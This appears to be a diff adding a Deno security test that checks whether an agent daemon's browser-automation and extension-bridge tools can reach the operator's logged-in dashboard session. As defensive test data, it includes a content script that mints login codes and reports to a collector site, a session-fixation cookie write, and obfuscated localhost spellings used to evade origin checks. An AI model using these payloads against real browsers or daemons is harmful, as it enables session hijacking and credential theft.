@@ -1,0 +1,495 @@
+// Issue 33: the daemon's own origin is never a path to the operator's
+// session through extension-bridge or browser-automation. The operator has
+// logged in to the dashboard in the browser both servers attach to; a page
+// of the daemon's origin carries that session, so a script there acts as
+// the operator. Real daemon, real Chromium with the bridge's test extensions,
+// the operator's own token as the caller (the rule holds for every caller),
+// plus fast-check over spellings of the daemon's URL.
+
+import assert from "node:assert/strict";
+import { join } from "node:path";
+import fc from "fast-check";
+import puppeteer from "puppeteer-core";
+import {
+  type DaemonOrigin,
+  type DaemonPageMatcher,
+  daemonPageMatcher,
+  reachesDaemon,
+} from "../../platform/daemon_origin.ts";
+import {
+  Client,
+  StreamableHTTPClientTransport,
+} from "../../platform/mcp_sdk.ts";
+import { browserTestIgnore, CHROMIUM } from "../browser.ts";
+import { spawnServe, tempDir, waitFor } from "../helpers.ts";
+import {
+  freePort,
+  prepareExtensions,
+  startBrowser,
+} from "../tools/extension-bridge/harness.ts";
+
+const OPERATOR = "operator-token-0123456789abcdef";
+const AGENT = "alice-token-0123456789abcdef";
+
+interface Called {
+  isError: boolean;
+  text: string;
+  structured: Record<string, unknown>;
+}
+
+async function connect(url: string): Promise<Client> {
+  const client = new Client({ name: "daemon-origin-test", version: "1" });
+  await client.connect(
+    new StreamableHTTPClientTransport(new URL(url), {
+      requestInit: { headers: { authorization: `Bearer ${OPERATOR}` } },
+    }),
+  );
+  return client;
+}
+
+async function call(
+  client: Client,
+  name: string,
+  args: Record<string, unknown> = {},
+): Promise<Called> {
+  const result = await client.callTool({ name, arguments: args });
+  const content = Array.isArray(result.content) ? result.content : [];
+  const text = content.map((block) =>
+    typeof block === "object" && block !== null && "text" in block
+      ? String(block.text)
+      : ""
+  ).join("\n");
+  const structured = typeof result.structuredContent === "object" &&
+      result.structuredContent !== null
+    ? { ...result.structuredContent }
+    : {};
+  return { isError: result.isError === true, text, structured };
+}
+
+async function ok(
+  client: Client,
+  name: string,
+  args: Record<string, unknown> = {},
+): Promise<Record<string, unknown>> {
+  const result = await call(client, name, args);
+  assert.equal(result.isError, false, `${name} failed: ${result.text}`);
+  return result.structured;
+}
+
+/** The targets of a Target.getTargets result. */
+function targetsOf(value: unknown): { targetId: string; url: string }[] {
+  if (
+    typeof value !== "object" || value === null ||
+    !("targetInfos" in value) || !Array.isArray(value.targetInfos)
+  ) return [];
+  return value.targetInfos.flatMap((info: unknown) =>
+    typeof info === "object" && info !== null && "targetId" in info &&
+      "url" in info && typeof info.targetId === "string" &&
+      typeof info.url === "string"
+      ? [{ targetId: info.targetId, url: info.url }]
+      : []
+  );
+}
+
+/**
+ * Another local site (127.0.0.1, its own port): a page, a redirect to the
+ * daemon, and a collector the injected script reports to.
+ */
+function startSite(daemonUrl: () => string) {
+  const reports: string[] = [];
+  const server = Deno.serve(
+    { hostname: "127.0.0.1", port: 0, onListen: () => {} },
+    async (request) => {
+      const path = new URL(request.url).pathname;
+      if (path === "/collect") {
+        reports.push(await request.text());
+        return new Response("", {
+          headers: { "access-control-allow-origin": "*" },
+        });
+      }
+      if (path === "/to-daemon") {
+        return Response.redirect(`${daemonUrl()}/health`, 302);
+      }
+      return new Response(
+        "<!doctype html><title>site</title><p id=mark>the other site</p>",
+        { headers: { "content-type": "text/html" } },
+      );
+    },
+  );
+  return {
+    url: `http://127.0.0.1:${server.addr.port}`,
+    reports,
+    close: () => server.shutdown(),
+  };
+}
+
+Deno.test({
+  name:
+    "security: extension-bridge and browser-automation never act in the daemon's own pages",
+  ignore: browserTestIgnore,
+  sanitizeResources: false,
+  sanitizeOps: false,
+  async fn() {
+    await using dir = await tempDir();
+    const extensions = await prepareExtensions();
+    const browser = await startBrowser(freePort(), extensions);
+    let daemonUrl = "";
+    const site = startSite(() => daemonUrl);
+    const config = join(dir.path, "agentd.json");
+    await Deno.writeTextFile(
+      config,
+      JSON.stringify({
+        servers: ["extension-bridge", "browser-automation"],
+        "extension-bridge": {
+          cdp_port: browser.port,
+          cdp_allow: ["Target.*", "Storage.getCookies", "Storage.setCookies"],
+        },
+        "browser-automation": {
+          cdp_port: browser.port,
+          ...(CHROMIUM ? { executable: CHROMIUM } : {}),
+        },
+      }),
+    );
+    const daemon = await spawnServe(join(dir.path, "data"), {
+      extra: ["--config", config],
+      env: {
+        AGENTD_TOKEN: OPERATOR,
+        AGENTD_AGENT_TOKENS: JSON.stringify({ alice: AGENT }),
+      },
+    });
+    daemonUrl = daemon.url;
+    const user = await puppeteer.connect({
+      browserURL: `http://127.0.0.1:${browser.port}`,
+    });
+    const clients: Client[] = [];
+    try {
+      // The operator logs in to the dashboard in this browser.
+      const codes = await fetch(`${daemon.url}/dashboard/login-codes`, {
+        method: "POST",
+        headers: { authorization: `Bearer ${OPERATOR}` },
+      });
+      assert.equal(codes.status, 201, await codes.clone().text());
+      const { login_path } = await codes.json();
+      const dashboard = await user.newPage();
+      await dashboard.goto(`${daemon.url}${login_path}`, { waitUntil: "load" });
+      const session = (await user.cookies()).find((cookie) =>
+        cookie.name === "agentd_session"
+      );
+      assert.ok(session, "the browser holds the dashboard session");
+
+      const bridge = await connect(`${daemon.url}/mcp/extension-bridge`);
+      clients.push(bridge);
+      const automation = await connect(`${daemon.url}/mcp/browser-automation`);
+      clients.push(automation);
+
+      // 1. A content script for <all_urls> runs in another local page, never
+      //    in the daemon's: there it would fetch as the operator.
+      await ok(bridge, "inject_content_script", {
+        extension_id: extensions.companion.id,
+        matches: ["<all_urls>"],
+        script: `fetch("/dashboard/login-codes", { method: "POST" })
+          .then((r) => r.status, () => 0)
+          .then((status) => fetch(${
+          JSON.stringify(`${site.url}/collect`)
+        }, { method: "POST", mode: "no-cors", body: location.href + " " + status }));`,
+      });
+      const daemonTab = await user.newPage();
+      await daemonTab.goto(`${daemon.url}/health`, { waitUntil: "load" });
+      // The page-world half of the runner is there: the runner had its turn.
+      await waitFor(
+        () =>
+          daemonTab.evaluate(
+            "document.documentElement.getAttribute('data-agentd-main')",
+          ),
+        (mark) => mark === "ready",
+        30_000,
+      );
+      const siteTab = await user.newPage();
+      await siteTab.goto(`${site.url}/`, { waitUntil: "load" });
+      // The other site's report came after the daemon tab's runner had its turn.
+      await waitFor(
+        () => site.reports.some((report) => report.startsWith(site.url)),
+        (reported) => reported,
+        30_000,
+      );
+      assert.ok(
+        !site.reports.some((report) => report.startsWith(daemon.url)),
+        `the script ran in the daemon's page: ${site.reports}`,
+      );
+      await siteTab.close();
+
+      // 2. bridge_cdp_command: no target or URL of the daemon, and the
+      //    session cookie is not in the cookies an operator allowed.
+      const cookies = await ok(bridge, "bridge_cdp_command", {
+        command: "Storage.getCookies",
+      });
+      assert.ok(
+        !JSON.stringify(cookies).includes("agentd_session") &&
+          !JSON.stringify(cookies).includes(session.value),
+        "the daemon's session cookie is never returned",
+      );
+      const created = await call(bridge, "bridge_cdp_command", {
+        command: "Target.createTarget",
+        params: { url: `http://localhost:${daemon.port}/health` },
+      });
+      assert.equal(created.isError, true, created.text);
+      assert.match(created.text, /agentd's own origin/);
+      const targets = await ok(bridge, "bridge_cdp_command", {
+        command: "Target.getTargets",
+      });
+      const daemonTarget = targetsOf(targets.result).find((info) =>
+        info.url.startsWith(`${daemon.url}/health`)
+      );
+      assert.ok(
+        daemonTarget,
+        `the daemon's tab is listed: ${JSON.stringify(targets)}`,
+      );
+      const attached = await call(bridge, "bridge_cdp_command", {
+        command: "Target.attachToTarget",
+        params: { targetId: daemonTarget.targetId },
+      });
+      assert.equal(attached.isError, true, attached.text);
+      assert.match(attached.text, /agentd's own origin/);
+
+      const relayed = await call(bridge, "bridge_cdp_command", {
+        command: "Target.sendMessageToTarget",
+        params: {
+          sessionId: "any",
+          message: JSON.stringify({
+            id: 1,
+            method: "Page.navigate",
+            params: { url: `${daemon.url}/health` },
+          }),
+        },
+      });
+      assert.equal(relayed.isError, true, relayed.text);
+      assert.match(relayed.text, /agentd's own origin/);
+      const fixation = await call(bridge, "bridge_cdp_command", {
+        command: "Storage.setCookies",
+        params: {
+          cookies: [{
+            name: "agentd_session",
+            value: "chosen-by-the-caller",
+            domain: "localhost",
+            path: "/",
+          }],
+        },
+      });
+      assert.equal(fixation.isError, true, fixation.text);
+      assert.match(fixation.text, /agentd's own origin/);
+      assert.ok(
+        !(await user.cookies()).some((cookie) =>
+          cookie.value === "chosen-by-the-caller"
+        ),
+      );
+
+      // 3. browser-automation: navigate to any spelling of the daemon is
+      //    refused before the page loads.
+      for (
+        const url of [
+          `${daemon.url}/health`,
+          `http://LOCALHOST.:${daemon.port}/dashboard`,
+          `http://user:pw@127.0.0.2:${daemon.port}/`,
+        ]
+      ) {
+        const refused = await call(automation, "navigate", { url });
+        assert.equal(refused.isError, true, `${url}: ${refused.text}`);
+        assert.match(refused.text, /agentd's own page/, url);
+      }
+      // A redirect there is refused too, and the tab now on the daemon's
+      // origin is neither scripted nor read, only navigated away.
+      const redirected = await call(automation, "navigate", {
+        url: `${site.url}/to-daemon`,
+      });
+      assert.equal(redirected.isError, true, redirected.text);
+      assert.match(redirected.text, /agentd's own page/);
+      for (
+        const [tool, args] of [
+          ["execute_js", {
+            script:
+              "(await fetch('/dashboard/login-codes', { method: 'POST' })).status",
+          }],
+          ["get_text", { selector: "body" }],
+          ["get_html", {}],
+          ["snapshot", {}],
+          ["screenshot", {}],
+          ["click_element", { selector: "body" }],
+        ] as const
+      ) {
+        const result = await call(automation, tool, args);
+        assert.equal(result.isError, true, `${tool}: ${result.text}`);
+        assert.match(result.text, /agentd's own page/, tool);
+        assert.ok(!result.text.includes("login_path"), tool);
+      }
+      const listed = await ok(automation, "get_cookies", {});
+      assert.ok(!JSON.stringify(listed).includes("agentd_session"));
+      // Elsewhere the tools work as before.
+      await ok(automation, "navigate", { url: `${site.url}/` });
+      const title = await ok(automation, "execute_js", {
+        script: "document.title",
+      });
+      assert.equal(title.result, "site");
+
+      // 4. An extension shipping a runner without the daemon check (an old
+      //    copy): the registration excludes every host that reaches the
+      //    daemon, in pattern forms Chromium takes (no port), and says so.
+      const runner = join(extensions.companion.path, "agentd_runner.js");
+      const current = await Deno.readTextFile(runner);
+      assert.ok(current.includes("agentd-daemon-check/1"));
+      await Deno.writeTextFile(
+        runner,
+        current.replaceAll("agentd-daemon-check/1", "no-check"),
+      );
+      const fallback = await ok(bridge, "inject_content_script", {
+        extension_id: extensions.companion.id,
+        matches: ["http://127.0.0.1/*"],
+        script: "void 0;",
+      });
+      const excluded = fallback.excluded_matches;
+      assert.ok(Array.isArray(excluded), JSON.stringify(fallback));
+      for (const pattern of ["*://127.0.0.1/*", "*://[::1]/*"]) {
+        assert.ok(excluded.includes(pattern), `${pattern}: ${excluded}`);
+      }
+      const registered = await ok(bridge, "execute_extension_action", {
+        extension_id: extensions.companion.id,
+        action: "list_content_scripts",
+      });
+      const scripts = Array.isArray(registered.result) ? registered.result : [];
+      const script = scripts.find((item: unknown) =>
+        typeof item === "object" && item !== null && "id" in item &&
+        item.id === fallback.script_id
+      );
+      assert.ok(
+        typeof script === "object" && script !== null &&
+          "excludeMatches" in script,
+        JSON.stringify(registered.result),
+      );
+      assert.deepEqual(
+        [...new Set(script.excludeMatches)].sort(),
+        [...new Set(excluded)].sort(),
+      );
+      // That runner hands over every stored script: the earlier
+      // registrations are excluded there too.
+      assert.equal(scripts.length, 4, JSON.stringify(scripts));
+      for (const item of scripts) {
+        assert.ok(
+          JSON.stringify(item).includes('"*://127.0.0.1/*"'),
+          JSON.stringify(item),
+        );
+      }
+
+      // The operator's session is untouched.
+      assert.ok(
+        (await user.cookies()).some((cookie) =>
+          cookie.name === "agentd_session" && cookie.value === session.value
+        ),
+      );
+    } finally {
+      for (const client of clients) await client.close().catch(() => {});
+      await user.disconnect().catch(() => {});
+      await daemon.stop();
+      await site.close();
+      await browser.close();
+      await Deno.remove(extensions.dir, { recursive: true });
+    }
+  },
+});
+
+/** How extension/agentd_runner.js reads a matcher (the runner is plain JS in other extensions). */
+function runnerRefuses(matcher: DaemonPageMatcher, href: string): boolean {
+  const url = new URL(href);
+  if (url.protocol !== "http:" && url.protocol !== "https:") return false;
+  const port = url.port !== ""
+    ? Number(url.port)
+    : url.protocol === "https:"
+    ? 443
+    : 80;
+  const host = url.hostname.toLowerCase().replace(/\.$/, "");
+  return matcher.ports.includes(port) && new RegExp(matcher.host).test(host);
+}
+
+Deno.test("security: every spelling of the daemon's URL reaches its origin", () => {
+  const mixCase = (text: string) =>
+    fc.array(fc.boolean(), { minLength: text.length, maxLength: text.length })
+      .map((upper) =>
+        [...text].map((c, i) => upper[i] ? c.toUpperCase() : c).join("")
+      );
+  const octet = fc.integer({ min: 0, max: 255 });
+  const host = fc.oneof(
+    mixCase("localhost"),
+    mixCase("app.localhost"),
+    fc.tuple(octet, octet, octet).map(([a, b, c]) => `127.${a}.${b}.${c}`),
+    fc.constantFrom(
+      "[::1]",
+      "[0:0:0:0:0:0:0:1]",
+      "[::ffff:127.0.0.1]",
+      "[::FFFF:7f00:1]",
+      "0.0.0.0",
+      "2130706433", // 127.0.0.1 as one number
+      "0x7f.1",
+      "0177.0.0.1",
+      "%6c%6fcalhost",
+      "127.1",
+    ),
+    fc.constantFrom("agentd.example", "AGENTD.example"),
+  );
+  const spelling = fc.record({
+    scheme: fc.constantFrom("http", "https", "HTTP", "ws"),
+    userinfo: fc.constantFrom("", "user@", "user:pw@", "evil.example@"),
+    host,
+    dot: fc.constantFrom("", "."),
+    port: fc.constantFrom("explicit", "default"),
+    path: fc.constantFrom("/", "/health", "/dashboard?x=1", "/%2e%2e/admin"),
+    daemonPort: fc.constantFrom(80, 443, 8765, 41_234),
+  });
+  fc.assert(
+    fc.property(spelling, (s) => {
+      const secure = /^(https|wss)$/i.test(s.scheme);
+      const daemon: DaemonOrigin = {
+        ports: [s.daemonPort],
+        hosts: ["agentd.example"],
+      };
+      const defaultPort = secure ? 443 : 80;
+      const port = s.port === "explicit"
+        ? `:${s.daemonPort}`
+        : s.daemonPort === defaultPort
+        ? ""
+        : `:${s.daemonPort}`;
+      // A bracketed IPv6 address takes no trailing dot.
+      const dot = s.host.startsWith("[") ? "" : s.dot;
+      const url = `${s.scheme}://${s.userinfo}${s.host}${dot}${port}${s.path}`;
+      assert.ok(reachesDaemon(url, daemon), url);
+      // Another port of the same host is another site.
+      const other = url.replace(
+        /^([^:]+:\/\/[^/]*?)(:\d+)?(\/)/,
+        `$1:${s.daemonPort + 1}$3`,
+      );
+      assert.ok(!reachesDaemon(other, daemon), other);
+      // The content script runner refuses the same pages (pages are http(s)).
+      if (/^https?$/i.test(s.scheme)) {
+        const matcher = daemonPageMatcher(daemon);
+        assert.ok(runnerRefuses(matcher, url), `runner: ${url}`);
+        assert.ok(!runnerRefuses(matcher, other), `runner: ${other}`);
+      }
+    }),
+    { numRuns: 1000 },
+  );
+  // Names that only look alike are not the daemon.
+  const daemon: DaemonOrigin = { ports: [8765], hosts: ["agentd.example"] };
+  for (
+    const url of [
+      "http://localhost.evil.example:8765/",
+      "http://127.0.0.1.evil.example:8765/",
+      "http://evil.example:8765/?u=http://127.0.0.1:8765/",
+      "http://xagentd.example:8765/",
+      "http://128.0.0.1:8765/",
+      "file:///127.0.0.1:8765/",
+    ]
+  ) {
+    assert.ok(!reachesDaemon(url, daemon), url);
+    assert.ok(
+      !runnerRefuses(daemonPageMatcher(daemon), url),
+      `runner: ${url}`,
+    );
+  }
+});
